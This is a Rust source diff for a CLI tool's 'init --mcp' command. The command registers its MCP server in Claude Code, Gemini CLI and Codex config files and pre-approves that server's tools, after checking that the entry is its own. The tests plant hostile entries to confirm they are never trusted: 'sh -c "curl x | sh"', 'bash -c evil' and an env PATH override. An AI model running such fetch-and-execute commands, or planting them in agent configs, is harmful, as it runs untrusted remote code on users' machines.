@@ -1,14 +1,24 @@
 //! `todos init --mcp`: registers `todos mcp` where each agent reads a project's MCP servers,
-//! merged into the file with every other key kept, and never added twice.
+//! merged into the file with every other key (and, in TOML, every comment) kept, never added
+//! twice, and with the agent's own approval of todos' tools, so its default permission mode
+//! runs them without asking:
+//! - Claude Code reads `.mcp.json` (`mcpServers`, `type: stdio`); its tools are allowed by
+//!   `mcp__todos` in `.claude/settings.json` (`init_permissions`).
+//! - Gemini CLI reads the `mcpServers` of `.gemini/settings.json`; `"trust": true` on the entry
+//!   offers its tools without a confirmation.
+//! - Codex 0.169 reads a trusted project's `.codex/config.toml` (`[mcp_servers.todos]`);
+//!   `default_tools_approval_mode = "approve"` lets its sandboxed default call the tools, which
+//!   it otherwise refuses ("requires approval, but approval policy is never").
 //!
-//! Claude Code reads `.mcp.json` (`mcpServers`, `type: stdio`); Gemini CLI reads the
-//! `mcpServers` of `.gemini/settings.json`. Codex reads MCP servers only from the user's own
-//! configuration, outside the workspace, so for Codex nothing is written: `init` prints Codex's
-//! own command instead.
+//! An entry is todos' own only when it runs exactly `todos mcp` (todos' own global options may
+//! stand before `mcp`) and holds nothing that changes what runs (`env`, `cwd`): only then is it
+//! approved or trusted. An entry named `todos` that is not todos' own is named in `init`'s
+//! output and left for the user to review.
 
 use std::path::Path;
 
 use serde_json::{Map, Value, json};
+use toml_edit::{DocumentMut, Item, TableLike};
 
 use crate::cli::Agent;
 use crate::error::{Error, Result};
@@ -17,39 +27,49 @@ use crate::error::{Error, Result};
 pub const SERVER_NAME: &str = "todos";
 pub const COMMAND: &str = "todos";
 pub const ARGS: [&str; 1] = ["mcp"];
-/// What a Codex user runs instead: Codex's own way to add a server.
-pub const CODEX_COMMAND: &str = "codex mcp add todos -- todos mcp";
 
 pub const CLAUDE_FILE: &str = ".mcp.json";
 pub const GEMINI_FILE: &str = ".gemini/settings.json";
+pub const CODEX_FILE: &str = ".codex/config.toml";
 
-/// Where an agent takes its MCP servers from.
-pub enum Registration {
-    /// A project file, and how to merge the server into its text.
-    File {
-        name: &'static str,
-        merge: fn(Option<&str>, &Path) -> Result<String>,
-        /// What the user must still do in the agent, said after the file is written.
-        then: &'static str,
-    },
-    /// Nothing to write in the workspace: the command the user runs.
-    Command(&'static str),
+/// Codex's key for a server's tool approvals, and the value that approves them all.
+pub const CODEX_APPROVAL_KEY: &str = "default_tools_approval_mode";
+pub const CODEX_APPROVE: &str = "approve";
+
+/// How a merge computes a file's new text: the old text (absent: `None`), the file's path for
+/// messages, and where it says what it left for the user to review.
+pub type Merge = fn(Option<&str>, &Path, &mut Vec<String>) -> Result<String>;
+
+/// Where an agent takes its MCP servers from: a project file, and how to merge the server in.
+pub struct Registration {
+    pub name: &'static str,
+    pub merge: Merge,
+    /// What the file now holds and what the user must still do in the agent.
+    pub then: &'static str,
 }
 
 pub fn registration(agent: Agent) -> Result<Registration> {
     match agent {
-        Agent::Claude => Ok(Registration::File {
+        Agent::Claude => Ok(Registration {
             name: CLAUDE_FILE,
-            merge: |old, path| with_server(old, path, json!({"type": "stdio"})),
-            then: "Claude Code asks you to approve the project's MCP servers when it next starts \
-                   here; check with /mcp",
+            merge: |old, path, notes| {
+                with_server(old, path, notes, &json!({"type": "stdio"}), None)
+            },
+            then: "Claude Code asks you once to approve the project's MCP servers when it next \
+                   starts here; check with /mcp",
         }),
-        Agent::Gemini => Ok(Registration::File {
+        Agent::Gemini => Ok(Registration {
             name: GEMINI_FILE,
-            merge: |old, path| with_server(old, path, json!({})),
-            then: "Gemini CLI loads a project's MCP servers in a trusted folder; check with /mcp",
+            merge: |old, path, notes| with_server(old, path, notes, &json!({}), Some("trust")),
+            then: "trusted (\"trust\": true), so Gemini CLI offers its tools without asking; it \
+                   loads a project's MCP servers in a trusted folder; check with /mcp",
         }),
-        Agent::Codex => Ok(Registration::Command(CODEX_COMMAND)),
+        Agent::Codex => Ok(Registration {
+            name: CODEX_FILE,
+            merge: with_codex_server,
+            then: "its tools approved (default_tools_approval_mode = \"approve\"); Codex loads a \
+                   project's .codex/config.toml once you trust the folder; check with /mcp",
+        }),
         Agent::Generic => Err(Error::usage(
             "--mcp registers the server for one agent: use it with --agent claude, codex or gemini",
         )
@@ -63,51 +83,219 @@ pub fn registration(agent: Agent) -> Result<Registration> {
 /// The line `init` prints for a registration file it wrote.
 pub fn describe(then: &str) -> String {
     format!(
-        "the todos MCP server ({COMMAND} {}). {then}",
+        "the todos MCP server ({COMMAND} {}), {then}",
         ARGS.join(" ")
     )
 }
 
-/// The settings text with our server in `mcpServers`. A server that already runs `todos mcp`,
-/// under any name, with todos' own options added, counts as ours: nothing is added then.
-fn with_server(old: Option<&str>, path: &Path, fields: Value) -> Result<String> {
+/// The keys an entry of todos' own may hold: none of them changes what runs.
+const HARMLESS_KEYS: &[&str] = &[
+    "type",
+    "command",
+    "args",
+    "trust",
+    "timeout",
+    "description",
+    "enabled",
+    "required",
+    "startup_timeout_sec",
+    "startup_timeout_ms",
+    "tool_timeout_sec",
+    "enabled_tools",
+    "disabled_tools",
+    CODEX_APPROVAL_KEY,
+];
+
+/// todos' global options that take a value, as they may stand before `mcp`.
+const OWN_OPTIONS: &[&str] = &["-C", "--workspace", "-l", "--list", "--lock-timeout"];
+
+/// Whether a server entry is todos' own: `command` exactly `todos`, `args` exactly `mcp` after
+/// any of todos' own global options (`-C DIR`, `--list=NAME`), and no key that changes what
+/// runs or where (`env`, `cwd`). The one test of ownership for every agent's file.
+pub fn is_own_server<'a>(
+    command: Option<&str>,
+    args: Option<&[&str]>,
+    mut keys: impl Iterator<Item = &'a str>,
+) -> bool {
+    if command != Some(COMMAND) || !keys.all(|key| HARMLESS_KEYS.contains(&key)) {
+        return false;
+    }
+    let Some((last, options)) = args.and_then(<[&str]>::split_last) else {
+        return false;
+    };
+    if *last != "mcp" {
+        return false;
+    }
+    let mut words = options.iter();
+    while let Some(word) = words.next() {
+        let with_value = OWN_OPTIONS.iter().any(|option| {
+            word.strip_prefix(option)
+                .is_some_and(|rest| rest.starts_with('='))
+        });
+        let needs_value = OWN_OPTIONS.contains(word);
+        let flag = matches!(*word, "--json" | "--quiet" | "-q");
+        if needs_value {
+            if words.next().is_none() {
+                return false;
+            }
+        } else if !with_value && !flag {
+            return false;
+        }
+    }
+    true
+}
+
+/// A JSON server entry, in the terms of `is_own_server`.
+fn is_own_json(server: &Value) -> bool {
+    let Value::Object(entry) = server else {
+        return false;
+    };
+    let args: Option<Vec<&str>> = match entry.get("args") {
+        Some(Value::Array(args)) => args.iter().map(Value::as_str).collect(),
+        _ => None,
+    };
+    is_own_server(
+        entry.get("command").and_then(Value::as_str),
+        args.as_deref(),
+        entry.keys().map(String::as_str),
+    )
+}
+
+/// A TOML server entry, in the terms of `is_own_server`.
+fn is_own_toml(server: &Item) -> bool {
+    let Some(entry) = server.as_table_like() else {
+        return false;
+    };
+    let args: Option<Vec<&str>> = entry
+        .get("args")
+        .and_then(Item::as_array)
+        .and_then(|args| args.iter().map(toml_edit::Value::as_str).collect());
+    is_own_server(
+        entry.get("command").and_then(Item::as_str),
+        args.as_deref(),
+        entry.iter().map(|(key, _)| key),
+    )
+}
+
+/// What `init` says of an entry named `todos` that is not todos' own.
+fn not_own(file: &Path, what: &str) -> String {
+    format!(
+        "{}: the MCP server entry \"{SERVER_NAME}\" runs {what}, which is not todos' own \
+         (`{COMMAND} {}`): left as it is, neither approved nor trusted; review it",
+        file.display(),
+        ARGS.join(" ")
+    )
+}
+
+/// The settings text with our server in `mcpServers`, `trust` (when given) set on todos' own
+/// entry. A server that runs exactly `todos mcp`, under any name, counts as ours: nothing is
+/// added then.
+fn with_server(
+    old: Option<&str>,
+    path: &Path,
+    notes: &mut Vec<String>,
+    fields: &Value,
+    trust: Option<&str>,
+) -> Result<String> {
     super::init::edit_settings(old, path, |settings| {
         let servers = settings.entry("mcpServers").or_insert_with(|| json!({}));
         let Value::Object(servers) = servers else {
             return Err("\"mcpServers\" must be an object".to_owned());
         };
+        if let Some(planted) = servers.get(SERVER_NAME).filter(|entry| !is_own_json(entry)) {
+            let command = planted["command"].to_string();
+            let what = format!("command {}", crate::text::escape(&command));
+            notes.push(not_own(path, &what));
+            return Ok(());
+        }
         let own = servers
             .iter()
-            .any(|(name, server)| runs_todos_mcp(name, server));
-        // A server named todos that is not todos' own stays as it is: init names it for the
-        // user to review (`own::review`), and never writes over it.
-        if !servers.contains_key(SERVER_NAME) && !own {
+            .find(|(_, entry)| is_own_json(entry))
+            .map(|(name, _)| name.clone());
+        let name = own.unwrap_or_else(|| {
             let mut entry = match fields {
-                Value::Object(fields) => fields,
+                Value::Object(fields) => fields.clone(),
                 _ => Map::new(),
             };
             entry.insert("command".into(), json!(COMMAND));
             entry.insert("args".into(), json!(ARGS));
             servers.insert(SERVER_NAME.into(), Value::Object(entry));
+            SERVER_NAME.to_owned()
+        });
+        if let (Some(key), Some(Value::Object(entry))) = (trust, servers.get_mut(&name)) {
+            entry.entry(key).or_insert(json!(true));
         }
         Ok(())
     })
 }
 
-/// Whether a registered server is todos' own (`own::mcp_server`): `todos mcp`, or a path to
-/// todos with todos' own options (`/usr/local/bin/todos -C DIR mcp`), under any name.
-fn runs_todos_mcp(name: &str, server: &Value) -> bool {
-    let command = server["command"].as_str().unwrap_or_default();
-    let Some(args) = server["args"].as_array().map(|args| {
-        args.iter()
-            .map(Value::as_str)
-            .collect::<Option<Vec<&str>>>()
-    }) else {
-        return false;
+/// Codex's `config.toml` with `[mcp_servers.todos]`, its tools approved. Every other table,
+/// key and comment of the user's stays byte for byte (`toml_edit` edits in place); an
+/// unchanged document keeps its bytes.
+fn with_codex_server(old: Option<&str>, path: &Path, notes: &mut Vec<String>) -> Result<String> {
+    let invalid = |why: String| {
+        Error::invalid(format!("{}: {why}", path.display()))
+            .with_hint("todos init leaves it untouched; fix it, then run it again")
     };
-    args.is_some_and(|args| {
-        crate::hooks::own::mcp_server(name, command, &args) == crate::hooks::own::Verdict::Own
+    let mut document = old
+        .unwrap_or_default()
+        .parse::<DocumentMut>()
+        .map_err(|err| invalid(format!("it is not valid TOML: {}", err.message())))?;
+    let servers = document
+        .entry("mcp_servers")
+        .or_insert_with(|| {
+            let mut table = toml_edit::Table::new();
+            table.set_implicit(true);
+            Item::Table(table)
+        })
+        .as_table_like_mut()
+        .ok_or_else(|| invalid("\"mcp_servers\" must be a table".to_owned()))?;
+    if let Some(planted) = servers.get(SERVER_NAME).filter(|entry| !is_own_toml(entry)) {
+        let command = planted
+            .as_table_like()
+            .and_then(|entry| entry.get("command"))
+            .map_or_else(|| "no command".to_owned(), ToString::to_string);
+        let what = format!("command {}", crate::text::escape(command.trim()));
+        notes.push(not_own(path, &what));
+        return Ok(old.unwrap_or_default().to_owned());
+    }
+    let own = servers
+        .iter()
+        .find(|(_, entry)| is_own_toml(entry))
+        .map(|(name, _)| name.to_owned());
+    let name = own.unwrap_or_else(|| {
+        let mut entry = toml_edit::Table::new();
+        entry.insert("command", toml_edit::value(COMMAND));
+        let mut args = toml_edit::Array::new();
+        args.extend(ARGS);
+        entry.insert("args", toml_edit::value(args));
+        servers.insert(SERVER_NAME, Item::Table(entry));
+        SERVER_NAME.to_owned()
+    });
+    if let Some(entry) = servers.get_mut(&name).and_then(Item::as_table_like_mut) {
+        approve(entry, path, notes);
+    }
+    let text = document.to_string();
+    Ok(match old {
+        Some(old) if old == text => old.to_owned(),
+        _ => text,
     })
+}
+
+/// `default_tools_approval_mode = "approve"` on todos' own entry, unless the user chose
+/// another mode there: that choice is theirs, and `init` says so.
+fn approve(entry: &mut dyn TableLike, path: &Path, notes: &mut Vec<String>) {
+    match entry.get(CODEX_APPROVAL_KEY).map(|item| item.as_str()) {
+        None => {
+            entry.insert(CODEX_APPROVAL_KEY, toml_edit::value(CODEX_APPROVE));
+        }
+        Some(Some(CODEX_APPROVE)) => {}
+        Some(_) => notes.push(format!(
+            "{}: kept your {CODEX_APPROVAL_KEY} for the todos server; Codex's sandboxed default \
+             refuses its tools unless it is \"{CODEX_APPROVE}\"",
+            path.display()
+        )),
+    }
 }
 
 #[cfg(test)]
@@ -115,10 +303,16 @@ mod tests {
     use super::*;
 
     fn merge(agent: Agent, old: Option<&str>) -> Result<String> {
-        match registration(agent)? {
-            Registration::File { merge, name, .. } => merge(old, Path::new(name)),
-            Registration::Command(_) => panic!("no file for {agent:?}"),
-        }
+        let registration = registration(agent)?;
+        (registration.merge)(old, Path::new(registration.name), &mut Vec::new())
+    }
+
+    fn notes(agent: Agent, old: &str) -> (String, Vec<String>) {
+        let registration = registration(agent).unwrap();
+        let mut notes = Vec::new();
+        let text =
+            (registration.merge)(Some(old), Path::new(registration.name), &mut notes).unwrap();
+        (text, notes)
     }
 
     #[test]
@@ -130,7 +324,7 @@ mod tests {
         assert_eq!(value["mcpServers"]["db"]["command"], "db-mcp");
         assert_eq!(
             value["mcpServers"]["todos"],
-            json!({"command": "todos", "args": ["mcp"]})
+            json!({"command": "todos", "args": ["mcp"], "trust": true})
         );
         assert_eq!(merge(Agent::Gemini, Some(&new)).unwrap(), new, "idempotent");
         let claude: Value = serde_json::from_str(&merge(Agent::Claude, None).unwrap()).unwrap();
@@ -141,13 +335,104 @@ mod tests {
     }
 
     #[test]
-    fn an_edited_registration_is_recognised_and_kept() {
-        let edited = r#"{"mcpServers": {"plan": {"command": "/opt/bin/todos", "args": ["-C", "/w", "mcp"]}}}"#;
-        assert_eq!(merge(Agent::Claude, Some(edited)).unwrap(), edited);
-        // Not todos' own, under todos' name: left as it is, never overwritten, never vouched
-        // for (init names it for review).
-        let planted = r#"{"mcpServers": {"todos": {"command": "npx", "args": ["todos-wrapper"]}}}"#;
-        assert_eq!(merge(Agent::Claude, Some(planted)).unwrap(), planted);
+    fn only_todos_own_entries_are_recognised() {
+        let own = |command: &str, args: &[&str]| {
+            is_own_server(Some(command), Some(args), ["command", "args"].into_iter())
+        };
+        assert!(own("todos", &["mcp"]));
+        assert!(own("todos", &["-C", "/w", "mcp"]));
+        assert!(own("todos", &["--list=docs", "--quiet", "mcp"]));
+        assert!(!own("/opt/bin/todos", &["mcp"]));
+        assert!(!own("todos", &["mcp", "--evil"]));
+        assert!(!own("todos", &["-C", "mcp"]));
+        assert!(!own("todos", &["hook"]));
+        assert!(!own("sh", &["-c", "todos mcp"]));
+        assert!(!is_own_server(
+            Some("todos"),
+            Some(&["mcp"]),
+            ["command", "args", "env"].into_iter()
+        ));
+        assert!(!is_own_server(Some("todos"), None, std::iter::empty()));
+    }
+
+    #[test]
+    fn a_planted_entry_is_named_and_never_trusted() {
+        let planted =
+            r#"{"mcpServers": {"todos": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#;
+        let (text, said) = notes(Agent::Gemini, planted);
+        let value: Value = serde_json::from_str(&text).unwrap();
+        assert_eq!(value["mcpServers"]["todos"].get("trust"), None);
+        assert_eq!(said.len(), 1);
+        assert!(said[0].contains("not todos' own"), "{said:?}");
+        let with_env = r#"{"mcpServers": {"todos": {"command": "todos", "args": ["mcp"], "env": {"PATH": "."}}}}"#;
+        assert_eq!(notes(Agent::Gemini, with_env).1.len(), 1);
+        let toml = "[mcp_servers.todos]\ncommand = \"bash\"\nargs = [\"-c\", \"evil\"]\n";
+        let (text, said) = notes(Agent::Codex, toml);
+        assert_eq!(text, toml, "left byte for byte");
+        assert!(said[0].contains("\"bash\""), "{said:?}");
+    }
+
+    #[test]
+    fn codex_config_keeps_every_comment_and_key() {
+        let old = "# my settings\nmodel = \"o3\" # the model\n\n[mcp_servers.db]\n# the database\ncommand = \"db\"\n\n[projects.\"/w\"]\ntrust_level = \"trusted\"\n";
+        let new = merge(Agent::Codex, Some(old)).unwrap();
+        let entry = "\n[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"approve\"\n";
+        // Beside the other servers, and nothing else touched: taken out, the user's bytes.
+        assert!(
+            new.contains(&format!("command = \"db\"\n{entry}\n[projects")),
+            "{new}"
+        );
+        assert_eq!(new.replacen(entry, "", 1), old);
+        assert_eq!(merge(Agent::Codex, Some(&new)).unwrap(), new, "idempotent");
+        let fresh = merge(Agent::Codex, None).unwrap();
+        assert_eq!(
+            fresh,
+            "[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"approve\"\n"
+        );
+        // An entry of todos' own that the user wrote without the approval gets it; one where
+        // the user chose to be asked keeps that choice, and init says so.
+        let bare = "[mcp_servers.plan]\ncommand = \"todos\"\nargs = [\"mcp\"]\n";
+        assert_eq!(
+            merge(Agent::Codex, Some(bare)).unwrap(),
+            format!("{bare}default_tools_approval_mode = \"approve\"\n")
+        );
+        let asked = "[mcp_servers.todos]\ncommand = \"todos\"\nargs = [\"mcp\"]\ndefault_tools_approval_mode = \"prompt\"\n";
+        let (text, said) = notes(Agent::Codex, asked);
+        assert_eq!(text, asked);
+        assert_eq!(said.len(), 1);
+    }
+
+    #[test]
+    fn codex_servers_in_any_toml_form_get_ours_beside_them() {
+        for old in [
+            "mcp_servers = { db = { command = \"db\" } }\n",
+            "mcp_servers.db.command = \"db\"\n",
+            "[mcp_servers]\ndb = { command = \"db\" }\n",
+        ] {
+            let new = merge(Agent::Codex, Some(old)).unwrap();
+            let value: toml_edit::DocumentMut = new.parse().unwrap();
+            let servers = value["mcp_servers"].as_table_like().unwrap();
+            assert_eq!(
+                servers
+                    .get("db")
+                    .and_then(|db| db.get("command"))
+                    .and_then(Item::as_str),
+                Some("db"),
+                "{new}"
+            );
+            let ours = servers.get("todos").unwrap();
+            assert!(is_own_toml(ours), "{new}");
+            assert_eq!(
+                ours.get(CODEX_APPROVAL_KEY).and_then(Item::as_str),
+                Some(CODEX_APPROVE),
+                "{new}"
+            );
+            assert_eq!(
+                merge(Agent::Codex, Some(&new)).unwrap(),
+                new,
+                "idempotent: {new}"
+            );
+        }
     }
 
     #[test]
@@ -155,10 +440,9 @@ mod tests {
         for bad in ["[]", r#"{"mcpServers": []}"#, "{"] {
             assert!(merge(Agent::Gemini, Some(bad)).is_err(), "{bad}");
         }
+        for bad in ["mcp_servers = 3\n", "[mcp_servers\n", "a = 1\na = 2\n"] {
+            assert!(merge(Agent::Codex, Some(bad)).is_err(), "{bad}");
+        }
         assert!(registration(Agent::Generic).is_err());
-        assert!(matches!(
-            registration(Agent::Codex),
-            Ok(Registration::Command(CODEX_COMMAND))
-        ));
     }
 }
